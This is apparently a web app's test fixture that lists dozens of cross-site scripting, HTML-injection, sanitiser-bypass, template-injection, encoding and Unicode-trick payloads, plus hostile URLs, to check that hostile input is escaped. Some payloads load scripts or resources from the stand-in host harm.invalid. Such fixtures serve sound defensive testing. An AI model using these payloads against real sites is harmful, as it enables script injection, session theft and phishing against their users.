// Words that want to be more than words: one or more of every known way to smuggle a program, an
// element, a request or a wrong look into a page. Each sets `harmed` or asks the host
// `harm.invalid` for something, if it works.
//
// It must never be softened to make a test pass; what a new kind of attack looks like is added here.
export const PAYLOADS = [
  // A program as an element.
  "<script>harmed=1</script>",
  "<ScRiPt>harmed=1</sCrIpT >",
  "<script src=//harm.invalid/a.js></script>",
  "<script/x>harmed=1</script\n>",
  "<scr<script>ipt>harmed=1</scr</script>ipt>",
  "<script type=module>import'//harm.invalid'</script>",
  "</script><script>harmed=1</script>",
  // A program as an attribute.
  "<img src=x onerror=harmed=1>",
  '<img src="x" onerror="harmed=1"',
  "<img/src='x'/onerror='harmed=1'//",
  "<img src=x:x onerror=&#104;armed=1>",
  "<body onload=harmed=1>",
  "<input autofocus onfocus=harmed=1>",
  "<details open ontoggle=harmed=1>",
  "<video><source onerror=harmed=1></video>",
  "<p style=animation:a onanimationstart=harmed=1>",
  "<marquee onstart=harmed=1>",
  '" onmouseover="harmed=1" x="',
  "' autofocus onfocus='harmed=1",
  "`onerror=harmed=1`",
  // Drawings and formulas, which have rules of their own.
  "<svg onload=harmed=1>",
  "<svg><script>harmed&#61;1</script></svg>",
  "<svg><animate onbegin=harmed=1 attributeName=x>",
  "<svg><use href=//harm.invalid/a.svg#a /></svg>",
  "<svg><a xlink:href=javascript:harmed=1><text y=9>x",
  "<math><mtext><script>harmed=1</script></math>",
  // What parsers and sanitisers read differently the second time.
  "<noscript><p title=\"</noscript><img src=x onerror=harmed=1>\">",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=harmed=1&gt;\">",
  "<svg></p><style><a id=\"</style><img src=x onerror=harmed=1>\">",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=harmed=1>",
  "<template><script>harmed=1</script></template>",
  "<xmp><img alt=\"</xmp><img src=x onerror=harmed=1>\">",
  "<!--><img src=x onerror=harmed=1>-->",
  "<![CDATA[<img src=x onerror=harmed=1>]]>",
  "<?xml-stylesheet href=//harm.invalid/a.xsl?>",
  "</textarea><img src=x onerror=harmed=1>",
  "</title><img src=x onerror=harmed=1>",
  // Other pages and other places.
  "<iframe src=javascript:parent.harmed=1>",
  "<iframe srcdoc='<script>parent.harmed=1</script>'>",
  "<object data=//harm.invalid/a.swf></object>",
  "<embed src=//harm.invalid/a.pdf>",
  "<base href=//harm.invalid/>",
  "<meta http-equiv=refresh content=0;//harm.invalid>",
  "<link rel=stylesheet href=//harm.invalid/a.css>",
  "<form action=//harm.invalid><button>Sign in</button></form>",
  "<img src=//harm.invalid/pixel.gif>",
  "<portal src=//harm.invalid></portal>",
  // Styles.
  "<style>@import'//harm.invalid/a.css'</style>",
  "<div style=background:url(//harm.invalid/a.png)>x",
  "</style><style>*{display:none}</style>",
  "<p style=position:fixed;inset:0;background:red>x",
  // Addresses that are programs.
  "javascript:harmed=1",
  "JaVaScRiPt:harmed=1",
  "java\tscript:harmed=1",
  "javascript://%0aharmed=1",
  "vbscript:harmed=1",
  "data:text/html,<script>harmed=1</script>",
  "[click](javascript:harmed=1)",
  "![x](//harm.invalid/a.png)",
  // Templates.
  "{{constructor.constructor('harmed=1')()}}",
  "${harmed=1}",
  "<%= harmed=1 %>",
  "#{harmed=1}",
  "{@html '<img src=x onerror=harmed=1>'}",
  // Entities and other spellings.
  "&lt;script&gt;harmed=1&lt;/script&gt;",
  "&#60;script&#62;harmed=1&#60;/script&#62;",
  "%3Cscript%3Eharmed=1%3C/script%3E",
  "\\u003cscript\\u003eharmed=1\\u003c/script\\u003e",
  "+ADw-script+AD4-harmed=1+ADw-/script+AD4-",
  "＜script＞harmed=1＜/script＞",
  // Characters that end, turn or hide.
  "<scr\u0000ipt>harmed=2</scr\u0000ipt>",
  "<img src=x\u000conerror=harmed=1>",
  "a\u202e>tpircs<1=demrah\u202c",
  "\u2066<b>isolated\u2069 \u200fturned",
  "<\ud800script>harmed=1</script>",
  "pass\u200bword\ufeff \u{e0041}\u{1f3f4}",
  "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034da\u0334l\u0335g\u0321o",
  "\u001b[31mred\u001b[0m\u0007",
];

/** Addresses of the app that want to be more than addresses. */
export const PLACES = [
  "/c/%3Cscript%3Eharmed=1%3C%2Fscript%3E",
  "/c/javascript:harmed=1",
  "/c/abcdefghij01234?at=%22%3E%3Cimg%20src=x%20onerror=harmed=1%3E",
  "/?at=javascript:harmed=1#<img src=x onerror=harmed=1>",
  "/c/..%2f..%2f%2fharm.invalid",
  "//harm.invalid/%2f..",
];
